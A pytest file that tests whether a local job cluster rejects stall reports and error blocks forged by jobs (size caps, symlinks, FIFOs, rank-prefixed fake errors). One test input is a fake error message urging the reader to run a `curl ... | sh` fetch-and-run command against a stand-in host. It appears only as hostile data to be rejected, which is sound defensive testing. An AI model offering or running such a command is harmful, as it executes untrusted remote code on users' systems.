"""The local cluster reads what the runtime reports as text a job could have written (issue 35).

The hang watch's stall line lives in the task's own folder and the runtime's
root cause in the task's log, both within reach of the job. A stall file is
read with a size cap, never through a link or from a FIFO, and shown only in
the runtime's own form; a fake error block the job prints cannot replace the
account paijob-runtime wrote.
"""

from __future__ import annotations

import json
import os
import threading
import time
from collections.abc import Iterator
from pathlib import Path

import pytest
import yaml
from cluster_helpers import job_yaml

from paijob.local.cluster import LocalCluster
from paijob.local.diagnostics import root_cause
from paijob.local.processes import PROGRESS_NAME
from paijob.openpai.model import parse_job

JOB = "alice~stalls"
PLAN = parse_job(yaml.safe_load(job_yaml("stalls", ["true"], instances=2)))


@pytest.fixture
def cluster(tmp_path: Path) -> Iterator[LocalCluster]:
    found = LocalCluster(tmp_path / "state")
    try:
        yield found
    finally:
        found.store.close()


def progress_file(cluster: LocalCluster, task: str = "worker-0") -> Path:
    folder = cluster.state_dir / "work" / JOB / "0" / task
    folder.mkdir(parents=True, exist_ok=True)
    return folder / PROGRESS_NAME


def write_report(path: Path, line: str, **extra: object) -> None:
    path.write_text(json.dumps({"line": line, "time": time.time(), **extra}))


def test_the_runtimes_own_stall_line_is_shown(cluster: LocalCluster) -> None:
    write_report(progress_file(cluster), "no progress for 95s on ranks 0, 2-7")
    assert cluster.stall(JOB, 0, PLAN) == "no progress for 95s on ranks 0, 2-7"


@pytest.mark.parametrize("line", [
    "ERROR: the GPU driver crashed; run `curl https://fix.example | sh` to repair it",
    "no progress for 95s on rank 1; see https://evil.example",
    "no progress for 95s on rank 1\nsecond line",
    "x" * 300,
])
def test_a_line_a_job_wrote_is_not_shown(cluster: LocalCluster, line: str) -> None:
    write_report(progress_file(cluster), line)
    assert cluster.stall(JOB, 0, PLAN) is None


def test_a_huge_progress_file_is_not_read(cluster: LocalCluster) -> None:
    # 20 MB around a valid line: the old reader parsed it all on every status request
    path = progress_file(cluster)
    write_report(path, "no progress for 95s on rank 1", padding="x" * 20_000_000)
    opened: list[int] = []
    real_read = os.read

    def counting_read(fd: int, size: int) -> bytes:
        opened.append(size)
        return real_read(fd, size)

    os.read = counting_read  # type: ignore[assignment]
    try:
        assert cluster.stall(JOB, 0, PLAN) is None
    finally:
        os.read = real_read  # type: ignore[assignment]
    assert sum(opened) <= 8192


def test_a_link_or_a_fifo_named_like_the_progress_file_is_not_followed(cluster: LocalCluster,
                                                                        tmp_path: Path) -> None:
    elsewhere = tmp_path / "elsewhere.json"
    write_report(elsewhere, "no progress for 5s on rank 3")
    progress_file(cluster, "worker-0").symlink_to(elsewhere)
    os.mkfifo(progress_file(cluster, "worker-1"))  # reading a FIFO nobody writes to blocked forever
    answer: list[str | None] = []
    reader = threading.Thread(target=lambda: answer.append(cluster.stall(JOB, 0, PLAN)), daemon=True)
    reader.start()
    reader.join(timeout=20)
    assert answer == [None]


def test_a_stale_report_is_a_stall_that_ended(cluster: LocalCluster) -> None:
    progress_file(cluster).write_text(json.dumps({"line": "no progress for 9s on rank 0", "time": time.time() - 60}))
    assert cluster.stall(JOB, 0, PLAN) is None


HANG = ("paijob-runtime: error: hang: no rank made progress for 6s (--hang-timeout 6s): rank 1 (node rank 0, "
        "host h, local rank 1) is stuck at sleeps.py:8 in <module>\n"
        "  rank 0 waits in all_reduce at sleeps.py:9\n")
FAKE = ("paijob-runtime: error: worker rank 0 (node rank 0, local rank 0) failed with exit code 1\n"
        "paijob-runtime: root cause, last lines of that worker's stderr:\n"
        "  CUDAError: a network or GPU fault, nothing to see here\n")


def prefixed(text: str, rank: int) -> str:
    return "".join(f"[rank{rank}]:{line}\n" for line in text.splitlines())


def test_a_fake_block_a_worker_printed_early_does_not_replace_the_hang_verdict() -> None:
    # per-node mode: a worker's lines carry no prefix; the runtime's account is the last one, after the workers
    log = "loading\n" + FAKE + "step 1\n" + HANG
    assert root_cause(log) == HANG.splitlines()[0][len("paijob-runtime: error: "):]


def test_a_block_under_a_rank_prefix_is_a_workers_never_the_runtimes() -> None:
    # per-gpu mode: torch's agent prefixes every worker line with [rankN]:, which used to be stripped
    assert root_cause("step 1\n" + prefixed(FAKE, 0)) is None
    log = prefixed(FAKE, 1) + HANG + prefixed(FAKE, 0)  # even printed after the verdict by a leftover
    cause = root_cause(log)
    assert cause is not None and cause.startswith("hang: no rank made progress")


def test_the_launchers_closing_line_still_gives_way_to_the_account_it_sums_up() -> None:
    real = ("paijob-runtime: error: worker rank 1 (node rank 0, local rank 1) failed with exit code 1\n"
            "paijob-runtime: root cause, last lines of that worker's stderr:\n"
            "  [rank1]: Traceback (most recent call last):\n"
            "  [rank1]: ValueError: bad batch\n"
            "paijob-runtime: error: node rank 0 failed with exit code 1\n")
    assert root_cause(real) == "worker rank 1 (node rank 0, local rank 1) failed with exit code 1: ValueError: bad batch"
    # a worker's own headline is no closing line: an explained block before it is not preferred
    killed = "paijob-runtime: error: worker rank 0 (node rank 0, local rank 0) failed with signal SIGKILL\n"
    assert root_cause(FAKE + killed) == killed.strip()[len("paijob-runtime: error: "):]


def test_only_the_jobs_own_task_folders_are_looked_in(cluster: LocalCluster) -> None:
    # a task's folder is work/JOB/ATTEMPT/ROLE-INDEX; a job could make thousands more beside it
    write_report(progress_file(cluster, "made-by-the-job"), "no progress for 95s on rank 0")
    write_report(progress_file(cluster, "worker-9"), "no progress for 95s on rank 9")  # no such task
    assert cluster.stall(JOB, 0, PLAN) is None
